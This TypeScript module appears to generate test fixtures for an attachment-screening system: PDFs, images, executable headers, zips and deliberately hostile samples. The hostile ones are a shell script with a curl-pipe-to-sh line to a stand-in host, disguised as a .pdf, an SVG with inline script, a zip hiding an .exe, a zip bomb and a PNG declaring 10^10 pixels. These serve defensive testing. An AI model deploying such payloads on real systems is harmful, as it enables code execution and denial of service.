/**
 * Builders of real test files, generated at run time so no binaries are committed: documents, images
 * (through sharp), programs (hand-made headers that file-type recognises), and zip archives written byte
 * by byte with node:zlib (deflate and CRC-32), so no zip library is needed to make them.
 */
import { Readable } from 'node:stream';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Sharp } from 'sharp';

/** One MiB, in bytes. */
export const MIB = 1024 * 1024;

/** What the analysis reads about one attachment; the same shape as its input, built from bytes in memory. */
export interface FixtureInput {
  /** Opens a fresh stream of the bytes, in 64 KiB chunks like a file read. */
  open: () => Promise<Readable>;
  /** Bytes. */
  size: number;
  /** True: the bytes are in the store. */
  stored: boolean;
  /** Name as filed. */
  filename: string;
  /** MIME type the sender declared. */
  declaredType: string;
}

/** Wraps bytes as an attachment named `filename` and declared as `declaredType`. */
export function fixtureInput(bytes: Buffer, filename: string, declaredType: string): FixtureInput {
  return {
    open: async () => Readable.from(chunks(bytes, 64 * 1024)),
    size: bytes.length,
    stored: true,
    filename,
    declaredType,
  };
}

function* chunks(bytes: Buffer, size: number): Generator<Buffer> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

/** A minimal valid one-page PDF 1.4 with a line of text and a correct cross-reference table. */
export function pdf(text = 'Invoice 42'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    streamObject(`BT /F1 12 Tf 20 50 Td (${text}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

function streamObject(content: string): string {
  return `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
}

/** Raw RGB pixels: the left half red, the right half blue, so a rotation shows in the output. */
function halves(width: number, height: number): Buffer {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) raw[(y * width + x) * 3 + (x < width / 2 ? 0 : 2)] = 255;
  }
  return raw;
}

/** Raw RGB noise: it compresses badly, so the encoded image has a long body worth truncating. */
function noise(width: number, height: number): Buffer {
  const raw = Buffer.alloc(width * height * 3);
  let seed = 42;
  for (let i = 0; i < raw.length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0; // a fixed LCG: the same bytes on every run
    raw[i] = seed >>> 24;
  }
  return raw;
}

function image(width: number, height: number, pixels = halves(width, height)): Sharp {
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** A PNG of the given size (left half red, right half blue). */
export function png(width = 64, height = 48): Promise<Buffer> {
  return image(width, height).png().toBuffer();
}

/** A GIF of the given size. */
export function gif(width = 32, height = 32): Promise<Buffer> {
  return image(width, height).gif().toBuffer();
}

/** A WebP of the given size. */
export function webp(width = 300, height = 200): Promise<Buffer> {
  return image(width, height).webp().toBuffer();
}

/**
 * A JPEG stored `width` x `height` (left half red, right half blue) with an EXIF orientation tag;
 * orientation 6 means "rotate 90° clockwise to display", so it shows `height` wide and red on top.
 */
export function jpegWithOrientation(width = 320, height = 160, orientation = 6): Promise<Buffer> {
  return image(width, height).jpeg().withMetadata({ orientation }).toBuffer();
}

/** A noisy JPEG cut in half: its header is whole, its picture data ends early. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await image(400, 300, noise(400, 300)).jpeg().toBuffer();
  return whole.subarray(0, Math.floor(whole.length / 2));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * A tiny PNG, written by hand, whose IHDR declares `width` x `height` RGB pixels (by default 100000 x
 * 100000 = 10^10) with valid CRCs; its picture data is one short row, so decoding it would fail late
 * and, worse, try to allocate tens of gigabytes first.
 */
export function pngDeclaring(width = 100_000, height = 100_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1 + 3 * 16))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A Windows PE executable header: `MZ`, the DOS stub, `e_lfanew` and the `PE\0\0` signature (x86-64). */
export function windowsExe(): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write('MZ', 0, 'latin1');
  bytes.write('This program cannot be run in DOS mode.\r\n$', 0x4e, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c); // e_lfanew: where the PE header starts
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x8664, 0x84); // machine: x86-64
  return bytes;
}

/** A 64-bit little-endian ELF executable header (x86-64). */
export function elfExecutable(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  bytes.writeUInt16LE(2, 16); // e_type: executable
  bytes.writeUInt16LE(0x3e, 18); // e_machine: x86-64
  bytes.writeUInt32LE(1, 20); // e_version
  return bytes;
}

/**
 * A Microsoft Installer skeleton: a compound-file (CFB) header and one directory sector whose root
 * entry carries the MSI class id, which is what tells an MSI from an old Word or Excel file.
 */
export function msiInstaller(): Buffer {
  const bytes = Buffer.alloc(1024);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes, 0);
  bytes.writeUInt16LE(0x3e, 0x18); // minor version
  bytes.writeUInt16LE(3, 0x1a); // major version 3: 512-byte sectors
  bytes.writeUInt16LE(0xfffe, 0x1c); // little-endian
  bytes.writeUInt16LE(9, 0x1e); // sector shift: 2^9
  bytes.writeUInt16LE(6, 0x20); // mini sector shift
  bytes.writeUInt32LE(0, 0x30); // first directory sector: sector 0, at byte 512
  const root = 512;
  Buffer.from('Root Entry', 'utf16le').copy(bytes, root);
  bytes.writeUInt16LE(22, root + 0x40); // name length in bytes, with the terminator
  bytes[root + 0x42] = 5; // object type: root storage
  Buffer.from('84100c0000000000c000000000000046', 'hex').copy(bytes, root + 0x50); // {000C1084-...-000000000046}
  return bytes;
}

/** A shell script with a `#!` line; named `.pdf` in the tests. */
export function shellScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl -s https://example.invalid/payload | sh\n', 'utf8');
}

/** A few lines of CSV. */
export function csv(): Buffer {
  return Buffer.from('date,amount,payee\n2025-01-02,12.50,Café Müller\n2025-01-03,99.00,ACME\n', 'utf8');
}

/** An SVG image with an inline script. */
export function svgWithScript(): Buffer {
  return Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n',
    'utf8',
  );
}

/** One entry of a hand-made zip. */
export interface ZipEntrySpec {
  /** Path inside the archive (`/` separators; a trailing `/` makes a folder). */
  name: string;
  /** Contents; empty by default. */
  data?: Buffer;
  /** Sets the "encrypted" flag (the contents are not really encrypted: only the listing is read). */
  encrypted?: boolean;
}

/**
 * Writes a zip archive by hand: for each entry a local header and its deflated data, then the central
 * directory and its end record. CRC-32 from node:zlib, so every reader accepts it.
 */
export function zip(entries: ZipEntrySpec[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = entry.data ?? Buffer.alloc(0);
    const packed = deflateRawSync(data, { level: 9 });
    const flags = 0x0800 | (entry.encrypted ? 1 : 0); // bit 11: UTF-8 names
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed: 2.0
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(8, 8); // method: deflate
    local.writeUInt16LE(0, 10); // time 00:00
    local.writeUInt16LE(0x21, 12); // date 1980-01-01
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // version made by
    local.copy(central, 6, 4, 28); // version needed .. name length: same fields as the local header
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A zip of three small text files. */
export function zipOfTexts(): Buffer {
  return zip([
    { name: 'notes/' },
    { name: 'notes/readme.txt', data: Buffer.from('Hello from the archive.\n'.repeat(20)) },
    { name: 'notes/todo.md', data: Buffer.from('- file the invoice\n- pay the invoice\n') },
    { name: 'data.csv', data: csv() },
  ]);
}

/** A zip that hides a Windows program among documents. */
export function zipWithExecutable(): Buffer {
  return zip([
    { name: 'invoice.pdf', data: pdf() },
    { name: 'tools/invoice.pdf.exe', data: windowsExe() },
  ]);
}

/** A zip bomb by ratio: `mib` MiB of zeros in one entry, deflated about a thousand times smaller. */
export function zipBomb(mib = 50): Buffer {
  return zip([
    { name: 'readme.txt', data: Buffer.from('nothing to see here\n') },
    { name: 'zeros.bin', data: Buffer.alloc(mib * MIB) },
  ]);
}

/** A zip laid out like a Word document (.docx): content types, relationships, the document part. */
export function docx(): Buffer {
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ' +
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
  const document =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    '<w:body><w:p><w:r><w:t>Invoice 42</w:t></w:r></w:p></w:body></w:document>';
  return zip([
    { name: '[Content_Types].xml', data: Buffer.from(contentTypes) },
    { name: '_rels/.rels', data: Buffer.from(rels) },
    { name: 'word/document.xml', data: Buffer.from(document) },
  ]);
}

/** The first half of a zip: its central directory is gone. */
export function truncatedZip(): Buffer {
  const whole = zipOfTexts();
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** A zip of `count` empty files (`f0` ...), for time limits: listing it takes a while. */
export function zipOfManyFiles(count: number): Buffer {
  return zip(Array.from({ length: count }, (_, i) => ({ name: `f${i}` })));
}

/** No bytes at all. */
export function empty(): Buffer {
  return Buffer.alloc(0);
}
